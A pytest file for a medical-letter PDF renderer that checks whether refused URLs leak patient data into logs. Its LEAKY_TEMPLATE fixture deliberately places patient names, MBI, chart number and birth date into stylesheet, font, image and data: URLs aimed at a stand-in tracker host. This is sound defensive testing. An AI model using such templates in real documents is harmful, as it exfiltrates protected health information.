"""When the PDF renderer refuses a URL, the log lines about it carry neither the URL's query
nor anything from patient fields.

A letter template is data that staff edit: it can put `{{ patient.last_name }}` or the MBI
into an image, stylesheet or font URL, in the query, the path, the host, the fragment or a
data: payload. The fetcher refuses every such URL (tests/test_pdf_fetcher.py); what is
checked here is what the logs then say about it, at the levels config/settings.LOGGING lets
through with LOG_LEVEL=DEBUG (WeasyPrint's own logger keeps its level).

Guards: config/settings.LOGGING ("weasyprint" at CRITICAL: WeasyPrint names the URL it
failed to load in its ERROR lines) and the renderer's own refusal line (documents/pdf.py,
`StaticOnlyFetcher.fetch` / `_describe`, which logs only the scheme and the length).
"""

import logging

import pytest

from documents.rendering import render_document
from documents.sample_context import sample_context

# A letter that sends patient fields out in every part of a URL a template can write.
LEAKY_TEMPLATE = (
    '{% extends "documents/layout.html" %}{% block content %}'
    "<style>"
    '@import url("https://tracker.example/a.css?mbi={{ patient.mbi }}");'
    "@font-face { font-family: Leak; "
    'src: url("https://fonts.example/{{ patient.last_name }}.woff2"); }'
    'p.leak { font-family: Leak; background: url("file:///srv/{{ patient.first_name }}.png?x=1"); }'
    "</style>"
    '<link rel="stylesheet" href="https://{{ patient.chart_number }}.tracker.example/b.css">'
    '<p class="leak">Dear {{ patient.first_name }},</p>'
    '<img src="https://tracker.example/pixel.png?name={{ patient.last_name }}'
    '&amp;dob={{ patient.date_of_birth|date:"Y-m-d" }}" alt="">'
    '<img src="https://{{ patient.first_name }}:{{ patient.mbi }}@tracker.example/u.png" alt="">'
    '<img src="https://tracker.example/f.png#{{ patient.last_name }}" alt="">'
    '<img src="data:text/plain,{{ patient.full_name }} {{ patient.mbi }}" alt="">'
    "{% endblock %}"
)
QUERIES = ("?mbi=", "?name=", "dob=", "?x=1")


@pytest.fixture
def context():
    return sample_context("lmn")


@pytest.fixture
def patient_values(context) -> list[str]:
    patient = context["patient"]
    return [
        patient["first_name"],
        patient["last_name"],
        patient["mbi"],
        patient["chart_number"],
        patient["date_of_birth"].isoformat(),
    ]


@pytest.fixture
def refused_render(caplog, context):
    """Render the leaky letter with the root logger at DEBUG (what LOG_LEVEL=DEBUG does)."""
    caplog.set_level(logging.DEBUG)
    rendered = render_document(LEAKY_TEMPLATE, context)
    assert rendered.pdf.startswith(b"%PDF")
    return caplog.records


def record_text(record: logging.LogRecord) -> str:
    return " ".join(
        [record.getMessage(), record.exc_text or "", repr(record.args), repr(vars(record))]
    )


def leaks(records, values) -> list[str]:
    found = []
    for record in records:
        text = record_text(record)
        hits = [v for v in (*values, *QUERIES) if v.lower() in text.lower()]
        if hits:
            found.append(f"{record.name} {record.levelname} {hits}: {record.getMessage()[:160]}")
    return found


def test_the_leaky_letter_really_asks_for_the_patient_fields(context, patient_values):
    # The control: the rendered HTML does hold every value in a URL, so the tests below
    # check refusals of URLs that carry PHI, not of URLs that lost it on the way.
    html = render_document(LEAKY_TEMPLATE, context).html
    for value in patient_values:
        assert value in html, value
    for query in QUERIES:
        assert query in html.replace("&amp;", "&"), query


def test_each_refused_url_is_still_reported_by_the_renderer(refused_render):
    # What the app logs instead of WeasyPrint: a refusal line per URL, with the reason.
    refusals = [r for r in refused_render if "refused" in r.getMessage()]
    assert len(refusals) >= 5
    assert all(r.levelno == logging.WARNING for r in refusals)


def test_weasyprint_itself_logs_nothing_about_the_refused_urls(refused_render, patient_values):
    # Guards: LOGGING["loggers"]["weasyprint"] = CRITICAL. At ERROR (before), WeasyPrint's
    # "Failed to load image at 'https://tracker.example/pixel.png?name=...'" got through.
    weasyprint = [r for r in refused_render if r.name.split(".")[0] == "weasyprint"]

    assert leaks(weasyprint, patient_values) == []
    assert weasyprint == []


def test_no_log_line_about_a_refused_url_carries_its_query_or_patient_fields(
    refused_render, patient_values
):
    # Guards: documents/pdf.py _describe. It logged the first 300 characters of the URL (and
    # the first 40 of a data: URI): the query, host, path, fragment and payload, which this
    # letter fills with the patient's name, MBI, chart number and birth date.
    assert leaks(refused_render, patient_values) == []
